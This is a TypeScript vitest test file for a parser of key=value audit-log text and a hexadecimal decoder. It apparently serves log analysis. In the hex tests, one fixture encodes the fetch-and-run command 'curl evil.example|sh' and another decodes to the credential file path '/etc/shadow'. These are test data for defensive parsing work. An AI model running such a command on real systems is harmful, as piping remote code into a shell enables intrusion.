import { describe, expect, test } from "vitest";
import { decodeHex, pairOf, readPairs } from "./pairs.ts";

const read = (text: string, key: string, separator = " ") => pairOf(readPairs(text, separator), key)?.text;

describe("key=value text", () => {
  const AUDIT = `type=USER_CMD msg=audit(1.1:2): pid=9 uid=0 msg='op=start acct="ro ot" cmd=6C73 res=failed'\x1dUID="root"`;

  test("has values in double quotes, and bare ones up to a blank", () => {
    expect(read(AUDIT, "type")).toBe("USER_CMD");
    expect(read(AUDIT, "pid")).toBe("9");
    expect(read(AUDIT, "acct")).toBe("ro ot");
  });

  test("has pairs inside of single quotes, and after a control character", () => {
    expect(read(AUDIT, "op")).toBe("start");
    expect(read(AUDIT, "res")).toBe("failed");
    expect(read(AUDIT, "UID")).toBe("root");
    expect(read(AUDIT, "uid")).toBe("0");
  });

  test("is searched without case where no key has the case", () => {
    expect(read("Status=5", "status")).toBe("5");
    expect(read("Status=5", "stat")).toBeUndefined();
  });

  test("with another separator has values with blanks and equal signs", () => {
    expect(read("a=1;note=some text, b=c;url=x?y=z", "note", ";")).toBe("some text, b=c");
    expect(read("a=1;note=some text;url=x?y=z", "url", ";")).toBe("x?y=z");
  });

  test("keeps the first of two values, and has none without an equal sign", () => {
    expect(read("a=1 a=2", "a")).toBe("1");
    expect(readPairs("no pairs here", " ").size).toBe(0);
    expect(read("= =x ==", "x")).toBeUndefined();
  });
});

describe("the pairs of a text longer than 65,536 characters", () => {
  test("are those at its start", () => {
    expect(read(`type=EXECVE a0="sh" ${"x".repeat(70_000)}`, "a0")).toBe("sh");
  });
});

describe("hexadecimal text", () => {
  test("that is too long for a number is decoded with the control characters it has", () => {
    const digits = Buffer.from("curl evil.example|sh #\u001b").toString("hex");
    expect(decodeHex(digits)).toContain("curl evil.example|sh");
  });

  test("is decoded, with blanks between arguments", () => {
    expect(decodeHex("2F6574632F736861646F77")).toBe("/etc/shadow");
    expect(decodeHex("6C73002D6C00")).toBe("ls -l");
  });

  test.each(["1000", "3", "xyz", "", "ff"])("is no text: %s", (digits) => {
    expect(decodeHex(digits)).toBeNull();
  });
});
